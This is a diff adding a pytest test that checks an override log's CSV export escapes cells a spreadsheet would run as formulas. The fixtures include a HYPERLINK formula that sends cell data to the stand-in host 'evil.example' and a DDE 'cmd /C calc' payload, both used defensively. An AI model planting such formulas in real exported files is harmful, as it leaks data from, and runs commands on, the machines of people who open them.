@@ -209,3 +209,20 @@ def test_a_file_that_is_not_sqlite_is_a_clear_error(tmp_path: Path) -> None:
     p.write_bytes(b"this is not a database" * 100)
     with pytest.raises(OverrideLogError, match="not a readable SQLite database"):
         OverrideLog(p).rows()
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_cells_a_spreadsheet_would_run_as_a_formula(log: OverrideLog, lead: str) -> None:
+    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
+    log.append(_new(transcript_id=formula, judge_model=f"{lead}cmd|' /C calc'!A0"))
+    if lead.strip():  # reason and reviewer are stripped of white space, so only the visible leads reach them
+        log.append(_new(reason=formula, reviewer=f"{lead}SUM(1+1)"))
+    parsed = list(csv.DictReader(io.StringIO(to_csv(log.rows()), newline="")))
+    cells = [r[c] for r in parsed for c in ("transcript_id", "judge_model", "reason", "reviewer")]
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+    assert parsed[0]["transcript_id"] == "'" + formula  # a single quote in front; the text itself is kept
+    assert parsed[0]["judge_model"] == f"'{lead}cmd|' /C calc'!A0"
+    if lead.strip():
+        assert (parsed[1]["reason"], parsed[1]["reviewer"]) == ("'" + formula, f"'{lead}SUM(1+1)")
+    assert parsed[0]["judge_score"] == "2" and parsed[0]["id"] == "1"  # numbers are left as they are
+    assert json.loads(to_jsonl(log.rows()).splitlines()[0])["transcript_id"] == formula  # JSON is data: as is
